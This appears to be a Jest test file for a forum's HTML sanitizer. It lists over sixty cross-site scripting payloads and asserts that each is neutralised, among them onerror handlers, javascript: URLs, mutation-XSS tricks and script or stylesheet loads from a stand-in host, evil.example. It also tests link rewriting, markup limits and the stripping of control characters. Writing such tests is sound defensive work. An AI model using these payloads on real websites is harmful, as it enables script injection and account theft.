import { cleanPost, countPictures, picturesOf } from './clean';
import { markupFault, markupLimits } from './markup-limits';
import { textOf } from './plain';

const site = 'https://harbor.example';
const clean = (html: string) => cleanPost(html, site);

/** Ways to run a script, to leave the page, to load from elsewhere, or to look like the site itself. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/uploads/a.webp" onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/media/uploads/../../api/applet/auth/logout">',
  '<img src="/media/uploads/x.webp?next=//evil.example" alt="&quot; onload=alert(1)">',
  '<img srcset="https://evil.example/a.png 1x" src="https://evil.example/a.png">',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://player.bilibili.com/x" onload="alert(1)"></iframe>',
  '<video src="x" onerror="alert(1)" poster="javascript:alert(1)"></video>',
  '<video><source src="javascript:alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://own@evil.example/">x</a>',
  '<a href="https://harbor.example@evil.example/">x</a>',
  '<a href="/x" onmouseover="alert(1)">x</a>',
  '<a href="/x" target="&quot; onclick=alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form><input name="body"><input name="attributes"></form>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;z-index:9999">x</p>',
  '<p style="color:red;behavior:url(#x)">x</p>',
  '<div id="root" name="body" class="ant-modal">x</div>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<td colspan="9999999" width="&quot;><script>alert(1)</script>">x</td>',
  '<code class="language-html&quot; onclick=&quot;alert(1)">x</code>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  `${'<div>'.repeat(3000)}<script>alert(1)</script>`,
];

test('there are at least sixty of them', () => expect(hostile.length).toBeGreaterThanOrEqual(60));

test.each(hostile)('%j does nothing', (html) => {
  const cleaned = clean(html);
  for (const [, tag = '', attributes = ''] of cleaned.matchAll(
    /<([a-z0-9]+)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/g,
  )) {
    expect([
      'script',
      'style',
      'iframe',
      'svg',
      'math',
      'form',
      'object',
      'embed',
      'base',
      'video',
    ]).not.toContain(tag);
    const names = attributes.replace(/="[^"]*"/g, '=');
    expect(names).not.toMatch(/\s(?:on\w+|srcdoc|srcset|id|name|action|formaction|poster|xlink:href)=/i);
    expect(attributes).not.toMatch(/="\s*(?:javascript|vbscript|data):/i);
    expect(attributes).not.toMatch(/url\(|expression|position|z-index|behavior/i);
  }
  // Every angle bracket belongs to a tag of ours; all others are written as text.
  expect(cleaned.replace(/<\/?[a-z][a-z0-9]*(?:\s+[\w-]+(?:="[^"<>]*")?)*\s*\/?>/g, '')).not.toMatch(/[<>]/);
  expect(cleaned).not.toContain('evil.example/x.js');
  expect(picturesOf(cleaned).every((src) => src.startsWith('/media/uploads/') && !src.includes('..'))).toBe(
    true,
  );
  expect(clean(cleaned)).toBe(cleaned);
});

test('what the editor writes stays', () => {
  const written =
    '<h2 style="text-align:center">标题</h2><p style="text-indent:2em;line-height:1.5">正文<strong>重点</strong><span style="color:rgb(1, 2, 3);font-size:16px">色</span></p>' +
    '<table style="width:100%"><tbody><tr><th colspan="2">表头</th></tr><tr><td>甲</td><td>乙</td></tr></tbody></table>' +
    '<pre><code class="language-python">if a &lt; b:\n    pass</code></pre><ul><li>一</li></ul><blockquote>引</blockquote><hr />' +
    '<div data-w-e-type="todo"><input type="checkbox" disabled checked />事</div>' +
    '<img src="/media/uploads/2026/11/01ABC.webp" alt="图" style="width:50%" />';
  expect(clean(written)).toBe(written);
});

test('links: own ones as paths, others with their marks, mail stays', () => {
  expect(clean('<a href="https://harbor.example/postdetail/1?a=1#b">x</a>')).toBe(
    '<a href="/postdetail/1?a=1#b" rel="noopener">x</a>',
  );
  for (const other of [
    'https://evil.example/',
    '//evil.example/',
    '/\\evil.example/',
    'https://harbor.example.evil.example/',
  ])
    expect(clean(`<a href="${other}" rel="follow" target="_self">x</a>`)).toMatch(
      /^<a href="https:\/\/[a-z.]*evil\.example\/" rel="nofollow ugc noopener noreferrer" target="_blank">x<\/a>$/,
    );
  expect(clean('<a href="mailto:a@b.cn">x</a>')).toBe(
    '<a href="mailto:a@b.cn" rel="nofollow noopener">x</a>',
  );
});

test('pictures are counted each time, listed once; the site’s own address becomes a path', () => {
  const html = clean(
    '<img src="/media/uploads/2026/11/a.webp"><img src="https://harbor.example/media/uploads/2026/11/a.webp"><img src="/media/demo/forum/x.svg">',
  );
  expect(countPictures(html)).toBe(3);
  expect(picturesOf(html)).toEqual(['/media/uploads/2026/11/a.webp', '/media/demo/forum/x.svg']);
});

test('the visible text: blocks as lines, cells apart, entities as letters, nothing of markup', () => {
  expect(
    textOf(clean('<p>a &lt;b&gt; &amp;amp;</p><p>c<br>d</p><table><tr><td>1</td><td>2</td></tr></table>')),
  ).toBe('a <b> &amp;\nc\nd\n1 2');
});

/** Markup of each shape, whose size only its number says. */
const shapes: [string, (n: number) => string, (n: number) => number][] = [
  ['elements within elements', (n) => '<b>'.repeat(n), () => markupLimits.depth],
  ['elements that the cleaner drops', (n) => '<x-y>'.repeat(n), () => markupLimits.depth],
  ['lists within lists', (n) => '<ul><li>'.repeat(n / 2), () => markupLimits.depth],
  ['elements that others end', (n) => '<b></i>'.repeat(n), () => markupLimits.depth],
  ['ends that only comments hold', (n) => '<b><!--</b>-->'.repeat(n), () => markupLimits.depth],
  ['ends that only values hold', (n) => '<b a="</b>">'.repeat(n), () => markupLimits.depth],
  ['elements beside elements', (n) => '<i>x</i>'.repeat(n), () => markupLimits.elements],
  ['elements that need no end', (n) => '<br>'.repeat(n), () => markupLimits.elements],
  ['paragraphs that end by the next', (n) => '<p>x'.repeat(n), () => markupLimits.elements],
  [
    'attributes',
    (n) => `<p ${Array.from({ length: n }, (_, i) => `a${i}`).join(' ')}>`,
    () => markupLimits.attributes,
  ],
];

test.each(shapes)('%s: as many as there may be, and no more', (_, make, most) => {
  expect(markupFault(make(most(0)))).toBeUndefined();
  expect(markupFault(make(most(0) + 2))).toMatch(/^正文的格式/);
});

test('markup that is too much is read no further than that', () => {
  // Whatever comes behind costs nothing: a text a thousand times as long takes as many steps.
  const steps = (n: number) => {
    const seen = jest.spyOn(Array.prototype, 'unshift');
    markupFault('<b>'.repeat(n));
    const { length } = seen.mock.calls;
    seen.mockRestore();
    return length;
  };
  expect(steps(100_000)).toBe(steps(markupLimits.depth + 1));
});

test('nesting ends where a column has no room left, and the words stay, each on its own line', () => {
  const deep = (open: string, close: string, times: number) =>
    `${open.repeat(times)}底${close.repeat(times)}`;
  const count = (html: string, tag: string) => clean(html).split(`<${tag}`).length - 1;
  expect(count(deep('<blockquote><p>引</p>', '</blockquote>', 60), 'blockquote')).toBe(4);
  expect(count(deep('<ul><li>项', '</li></ul>', 40), 'ul>')).toBe(6);
  expect(count(deep('<ol><li>项', '</li></ol>', 40), 'li>')).toBe(6);
  expect(count(deep('<table><tbody><tr><td>格', '</td></tr></tbody></table>', 12), 'table')).toBe(2);
  // One beside the other is no nesting.
  expect(count('<blockquote>引</blockquote>'.repeat(9), 'blockquote')).toBe(9);
  const quotes = clean(deep('<blockquote><p>引</p>', '</blockquote>', 12));
  expect(textOf(quotes).split('\n')).toEqual([...Array(12).fill('引'), '底']);
  expect(clean(quotes)).toBe(quotes);
});

test('indents and widths leave room for words; what asks for more gets what there is', () => {
  expect(clean('<p style="padding-left:99em;text-indent:2em">缩</p>')).toBe(
    '<p style="padding-left:10em;text-indent:2em">缩</p>',
  );
  expect(
    clean('<table style="width:9000px"><tr><td width="4000" style="width:999%">宽</td></tr></table>'),
  ).toBe('<table><tr><td>宽</td></tr></table>');
  expect(clean('<table><colgroup><col width="9999"></colgroup><tr><td>宽</td></tr></table>')).not.toContain(
    '9999',
  );
  expect(clean('<ol start="99999999999999"><li>项</li></ol><ol start="12"><li>项</li></ol>')).toBe(
    '<ol><li>项</li></ol><ol start="12"><li>项</li></ol>',
  );
  const kept =
    '<table style="width:100%"><tr><td width="240" style="width:33.3%">宽</td><td width="auto">窄</td></tr></table>';
  expect(clean(kept)).toBe(kept);
});

test('what steers or is not seen goes, also where it is written as a number', () => {
  const html =
    '<p>甲&#8238;乙&#x202e;\u2066丙&#27;[31m&#xfeff;</p><p><img src="/media/uploads/a.webp" alt="丁&#8238;\u202e戊"></p>';
  const kept = clean(html);
  expect(kept).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u);
  expect(textOf(kept)).toContain('甲乙丙');
  expect(kept).toContain('alt="丁戊"');
});

test('marks on one letter have an end, whatever tags stand between them', () => {
  const marks = '\u0301\u0316'.repeat(10);
  for (const html of [`<p>甲${marks.repeat(20)}</p>`, `<p>甲${`<b>${marks}</b>`.repeat(20)}</p>`])
    expect([...textOf(clean(html))].length).toBeLessThanOrEqual(31);
});

test('composing characters makes no tag another', () => {
  const kept = clean('<p>\u0338 onmouseover=alert(1) e\u0301</p>');
  expect(kept).toBe('<p> onmouseover=alert(1) \u00e9</p>');
  expect(clean(kept.normalize('NFC'))).toBe(kept);
});
